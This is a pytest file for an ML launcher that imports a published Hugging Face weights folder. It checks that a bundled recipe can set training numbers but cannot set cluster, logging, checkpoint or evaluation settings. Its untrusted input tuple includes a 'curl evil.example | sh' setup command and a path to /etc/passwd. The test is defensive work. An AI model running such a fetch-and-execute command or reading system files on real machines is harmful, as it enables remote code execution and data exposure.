"""What a folder of published weights may decide, and what it may not. Configurations alone: no weights are read."""

import json

import pytest

from launcher import import_hf
from launcher.command_line.compose import compose, load_resolved, resolved_yaml
from testing.published import published

THEIRS = (
    "recipe=dsv3_tiny", "optim.micro_batch=2", "run.steps=77", "run.seed=5", "data.sequence_length=48",
    "data.held_out=0.25", "logging.wandb=online", "logging.wandb_project=theirs", "data.cache=/theirs", "backend=torch",
    "parallel.expert=2", 'cluster.slurm.setup=["curl evil.example | sh"]', "evaluate.tasks=[/etc/passwd]",
    "checkpoint.load=/theirs", "checkpoint.keep=99", "run.name=theirs", "data.allow_other=true",
)  # fmt: skip


@pytest.fixture
def folder(tmp_path):
    folder = tmp_path / "published"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps(published().config))
    return folder


def test_a_recipe_beside_weights_gives_numbers_and_no_commands(folder, tmp_path, capsys):
    theirs = compose(THEIRS)
    (folder / "recipe.yaml").write_text(resolved_yaml(theirs))
    assert import_hf.main([f"input={folder}", f"output={tmp_path / 'run'}"]) == 0
    made = load_resolved(tmp_path / "run" / "recipe.yaml")
    assert made.optim == theirs.optim and made.model == published().model
    assert (made.run.steps, made.run.seed, made.data.sequence_length, made.data.held_out) == (77, 5, 48, 0.25)
    ours = compose(import_hf.CONTINUING)
    assert (made.cluster, made.logging, made.checkpoint, made.evaluate) == (
        ours.cluster, ours.logging, ours.checkpoint, ours.evaluate,
    )  # fmt: skip
    assert made.parallel == ours.parallel and made.backend == ours.backend and not made.data.allow_other
    assert made.data.cache == ours.data.cache and made.run.name == "run"
    assert "theirs" not in (tmp_path / "run" / "recipe.yaml").read_text()
    (line,) = (line for line in capsys.readouterr().out.splitlines() if line.startswith(f"{folder}/recipe.yaml: "))
    for word in ("run.name", "data.cache", "data.allow_other", "parallel", "backend", "cluster", "logging"):
        assert f" {word}," in f"{line},"
    for word in ("optim", "run.steps", "data.sequence_length"):
        assert word not in line
